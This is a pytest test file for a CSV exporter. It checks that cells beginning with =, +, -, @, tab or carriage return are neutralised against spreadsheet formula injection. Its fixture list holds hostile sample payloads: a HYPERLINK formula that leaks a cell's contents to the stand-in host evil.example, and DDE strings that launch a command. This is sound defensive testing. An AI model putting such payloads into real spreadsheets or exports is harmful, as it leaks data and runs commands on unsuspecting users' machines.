"""CSV export of hostile article text: no cell reaches a spreadsheet as a formula (CSV injection)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from typer.testing import CliRunner

from stanceline import services
from stanceline.analyze.exports import csv_cell
from stanceline.config import load_settings
from stanceline.records import ProcessedDocument, RawInput
from tests.api.factory import _doc, _statement, build_store

FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.fixture(scope="module")
def db_url(tmp_path_factory: pytest.TempPathFactory) -> str:
    url = f"sqlite:///{tmp_path_factory.mktemp('csv') / 'csv.db'}"
    store = build_store(url)
    for i, formula in enumerate(FORMULAS):
        text = f'Hossein Amir-Abdollahian said "{formula} is our answer" on Monday.'
        doc = _doc(100 + i, text, formula, "2023-01-0" + str(i + 1), source=f"{formula}-{i}")
        statement = _statement(doc, f"{formula} is our answer", formula, None, "2023-01-02", "oppose")
        store.save(ProcessedDocument(RawInput(doc.source, text.encode("utf-8"), "text/plain"), doc, (statement,)))
    store.close()
    return url


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def _check(text: str) -> None:
    cells = _cells(text)
    dangerous = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert not dangerous, dangerous
    for formula in FORMULAS:  # the text is kept, behind one quote
        assert f"'{formula} is our answer" in cells
        assert f"'{formula}" in cells  # speaker, outlet, source


def test_csv_export_neutralises_formula_cells(db_url: str) -> None:
    _check(services.export(load_settings(db=db_url), "csv"))


def test_cli_csv_export_neutralises_formula_cells(db_url: str, tmp_path: Path) -> None:
    from stanceline.cli import app

    out = tmp_path / "s.csv"
    result = CliRunner().invoke(app, ["export", "--format", "csv", "--db", db_url, "-o", str(out)])
    assert result.exit_code == 0, result.output
    _check(out.read_bytes().decode("utf-8"))


def test_other_exports_keep_the_text_as_stored(db_url: str) -> None:
    jsonl = services.export(load_settings(db=db_url), "jsonl")
    assert '"=HYPERLINK(' in jsonl and "\"'=HYPERLINK(" not in jsonl


@pytest.mark.parametrize(("value", "expected"), [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@x", "'@x"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("a=1", "a=1"), ("", ""), (None, None), (-1.5, -1.5), (3, 3), ("'=1", "'=1"),
])
def test_csv_cell(value: object, expected: object) -> None:
    assert csv_cell(value) == expected
